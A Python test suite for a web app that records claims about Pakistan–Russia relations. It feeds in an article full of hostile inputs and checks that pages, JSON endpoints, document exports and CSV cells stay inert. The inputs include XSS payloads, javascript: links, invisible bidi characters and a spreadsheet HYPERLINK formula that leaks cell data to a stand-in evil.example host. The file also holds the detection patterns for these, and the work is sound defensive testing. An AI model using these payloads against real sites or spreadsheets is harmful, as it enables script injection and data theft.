"""An article that is hostile in all that is taken from it, on every page, in every twin and in all that is written out."""

import csv
import html
import io
import re
import zipfile
from html.parser import HTMLParser
from xml.etree import ElementTree as ET

import pytest
from tests import factory
from tests.web.conftest import make_client

from detente.model.claim import EventType, Quantity, Role, Status
from detente.pipeline.file import File
from detente.present.exports.csv_files import export_csv
from detente.store.file import Store
from detente.store.write import Kept

HIDDEN = "\x00\u202e\u2066\u200b"  # ends a text, turns it, cannot be seen
MARKUP = "\"'><script>alert(1)</script><img src=x onerror=alert(2)><svg onload=alert(3)><style>*{display:none}</style>{{ 7777*7777 }}"
NASTY = f"{HIDDEN}{MARKUP}</title></textarea><a href='javascript:alert(4)' hx-get=/review hx-trigger=load>x</a>"
FORMULA = '=HYPERLINK("http://evil.example?"&A1)'
LINES = (
    f"Pakistan and Russia signed {NASTY} in June 2014.",
    f"Pakistan and Russia denied that they signed {NASTY}.",
    f"{FORMULA} trade reached $1.02 billion in 2023.",
    "[link](javascript:alert(5)) ![x](http://evil.example/x.png) <iframe src=//evil.example> trade was $2.5 billion in 2023.",
    f"Old distrust {NASTY} holds back both.",
)
TEXT = "\n".join(LINES)
FOREIGN_TAGS = {"img", "style", "iframe", "object", "embed", "base", "video", "math", "foreignobject", "animate"}
PAGES = (
    "/articles/nasty?furniture=true", "/articles/second", "/sources", "/relation?party=PAK&party=RUS", "/timeline",
    "/timeline?since=2014-06-01&until=2014-06-30", "/events", "/conflicts", "/ledger", "/figures", "/assessments",
    "/network", "/review", "/add", "/dossier", "/search?q=Pakistan", f"/search?q={MARKUP}", f"/events?party={MARKUP}",
)  # fmt: skip
TABLES = {"events": "event", "figures": "id", "ledger": "id"}


class Tags(HTMLParser):
    """Every tag of a page with its attributes, as a browser would see them."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.seen: list[tuple[str, dict[str, str]]] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, {name: value or "" for name, value in attrs}))


def kept(name: str, number: int) -> Kept:
    """The hostile article under a name; the second gives other values, so that sources differ."""
    document = factory.document(
        TEXT, name, title=NASTY + "T" * 1_000_000, publisher=f"{FORMULA}{number} {NASTY}", author=NASTY,
        url="javascript:alert(6)" if number else "https://a.example/\"onmouseover='alert(7)'", published="2024-03-02",
    )  # fmt: skip
    both = {"actors": ("PAK", "RUS"), "speaker": NASTY, "place": NASTY}
    return Kept(
        document,
        factory.coded(
            document,
            factory.claim(LINES[0], document, event_type=EventType.AGREE, date=f"201{4 + number}-06", quantities=(Quantity(4, "1", NASTY),), **both),
            factory.claim(LINES[1], document, event_type=EventType.AGREE, status=Status.DENIED, **both),
            factory.figure(LINES[2 + number], document, indicator=f"=trade {NASTY}", parties=("PAK", "RUS"), value=1e9 * (1 + number), period="2023"),
            factory.assessment(LINES[4], document, role=Role.OBSTACLE, parties=("PAK", "RUS"), speaker=NASTY),
            factory.mention(NASTY, document, name=f"Accord {NASTY}", parties=("PAK", "RUS"), date="2014-06"),
        ),
        tuple(range(number * 200, number * 200 + 128)),
        "test",
    )  # fmt: skip


@pytest.fixture(scope="module")
def client(tmp_path_factory):
    path = tmp_path_factory.mktemp("hostile") / "relation.db"
    with Store(path, create=True) as store:
        for number, name in enumerate(("nasty", "second")):
            store.keep(kept(name, number))
    return make_client(path)


def find_trouble(page: str) -> list[object]:
    """What of a page is not of the app's own making."""
    shown = re.sub(r'<option value="[^"]*"', "", page)  # a publisher's name comes back as it is, and nobody sees it
    found: list[object] = re.findall("[\x01-\x08\u200b\u202a-\u202e\u2066-\u2069]", shown) + re.findall("\x00", page)
    for tag, given in Tags(page).seen:
        written = [
            value for name, value in given.items() if name in {"href", "src", "action", "formaction", "xlink:href"}
        ]
        if (
            tag in FOREIGN_TAGS
            or (tag == "script" and not given.get("src", "").startswith("/static/"))
            or any(name.startswith("on") or name == "style" for name in given)
            or any(not re.match(r"/(?!/)|[#?]|https?://|$", value) for value in written)
            or (given.get("hx-trigger") == "load")
        ):
            found.append((tag, given))
    return found


def pages_of(client):
    """All pages, those of single records included."""
    yield from PAGES
    for table, key in TABLES.items():
        answer = client.get(f"/api/v1/{table}").json()
        rows = (
            [line["row"] for group in answer["groups"] for line in group["lines"]]
            if table == "figures"
            else answer["items"]
        )
        assert rows, table
        for row in rows:
            one = row.get("row", row)
            yield f"/{table}/{one[key]}"
            if table == "events":
                yield f"/events/{one[key]}/why"
    claims = client.get("/api/v1/claims").json()["items"]
    assert claims
    for claim in claims:
        yield f"/review?claim={claim['id']}"


def test_nothing_of_a_hostile_article_is_alive_on_any_page(client):
    for path in pages_of(client):
        page = client.get(path)
        assert page.status_code in {200, 400}, path
        assert len(page.content) < 400_000, path  # a title of a megabyte is cut
        assert find_trouble(page.text) == [], path
        assert "60481729" not in page.text, path


def test_the_twins_are_json_and_nothing_else(client):
    for path in pages_of(client):
        if path.startswith("/review?"):
            continue
        answer = client.get(f"/api/v1{path}")
        assert answer.headers["content-type"] in {"application/json", "application/problem+json"}, path
        assert answer.headers["x-content-type-options"] == "nosniff", path


@pytest.mark.model
def test_why_a_hostile_article_was_read_so_is_told_inertly(client):
    claims = [f"/claims/{one['id']}" for one in client.get("/api/v1/claims").json()["items"]]
    groups = client.get("/api/v1/figures").json()["groups"]
    figures = [f"/figures/{line['row']['id']}" for group in groups for line in group["lines"]]
    for path in (*claims, *figures):
        page = client.get(f"{path}/why")
        assert page.status_code == 200, path
        assert find_trouble(page.text) == [], path
        assert len(page.content) < 400_000, path
        assert client.get(f"/api/v1{path}/why").headers["content-type"] == "application/json", path


@pytest.mark.model
def test_a_hostile_text_that_is_checked_is_inert(client):
    token = client.get("/api/v1/session").json()["token"]
    for text in (TEXT, f"Pakistan and Russia signed an accord in June 2013. {NASTY}"):
        page = client.post(
            "/check", data={"text": text, "title": NASTY, "publisher": NASTY, "url": "javascript:1", "token": token}
        )
        assert page.status_code == 200
        assert find_trouble(page.text) == []


def test_a_hostile_name_of_a_file_and_a_hostile_reason_are_inert(client):
    data = {"token": client.get("/api/v1/session").json()["token"]}
    answer = client.post("/add", data=data, files={"files": (f"{MARKUP}.pdf", b"no pdf")})
    assert find_trouble(client.get(answer.headers["location"]).text) == []
    assert find_trouble(client.get("/add").text) == []
    assert find_trouble(client.post("/reviewer", data={**data, "name": NASTY}, follow_redirects=True).text) == []


def test_what_a_page_cannot_show_is_no_correction(client):
    token = client.get("/api/v1/session").json()["token"]
    claim = next(one for one in client.get("/api/v1/claims").json()["items"] if one["place"])
    page = client.get(f"/review?claim={claim['id']}").text
    place = html.unescape(re.search(r'name="place" value="([^"]*)"', page)[1])
    data = {"token": token, "verdict": "corrected", "seen": "0", "place": place, "date": "1999"}
    assert client.post(f"/review/{claim['id']}", data=data).status_code == 303
    made = client.get(f"/api/v1/claims/{claim['id']}").json()["reviews"][-1]
    assert [one["field"] for one in made["changes"]] == ["date"]


def write(client, form: str) -> bytes:
    """The dossier as a program gets it."""
    answer = client.get("/api/v1/dossier/file", params={"party": ["PAK", "RUS"], "form": form, "notes": NASTY})
    assert answer.status_code == 200
    assert answer.headers["content-disposition"].startswith("attachment")
    assert answer.headers["x-content-type-options"] == "nosniff"
    return answer.content


def test_the_dossier_carries_no_script_and_no_live_address(client):
    tags = Tags(write(client, ".html").decode()).seen
    assert not [tag for tag, _ in tags if tag in FOREIGN_TAGS - {"style"} | {"script"}]
    assert not [given for _, given in tags if any(name.startswith("on") for name in given)]
    assert not [
        given for _, given in tags if re.match(r"\s*(javascript|data|vbscript):", given.get("href", ""), re.IGNORECASE)
    ]
    text = write(client, ".md").decode()
    assert not re.search(r"(?<!\\)<(script|img|iframe|svg|a)\b", text)
    assert not re.search(r"(?<!\\)\]\(javascript:", text)
    for body in (text, write(client, ".html").decode()):
        assert not re.search("[\x00\u200b\u202a-\u202e\u2066-\u2069]", body)


def test_the_dossier_for_word_is_sound_and_leads_to_no_script(client):
    with zipfile.ZipFile(io.BytesIO(write(client, ".docx"))) as parts:
        for name in parts.namelist():
            if name.endswith((".xml", ".rels")):
                for element in ET.fromstring(parts.read(name)).iter():  # noqa: S314  (written by the app)
                    target = element.get("Target", "")
                    assert not re.match(r"\s*(javascript|file|data):", target, re.IGNORECASE)


def test_cells_of_a_spreadsheet_begin_no_formula(client):
    csv.field_size_limit(2_000_000)
    with File(client.app.state.file.path) as file:
        written = export_csv(file.tables().rows)
    cells = [
        cell
        for content in written.values()
        for row in csv.reader(io.StringIO(content.decode("utf-8-sig")))
        for cell in row
    ]
    assert any(FORMULA in cell for cell in cells)
    assert not [cell for cell in cells if re.match(r"[=@\t\r]|[+-](?![\d.]+$)", cell) or "\x00" in cell]
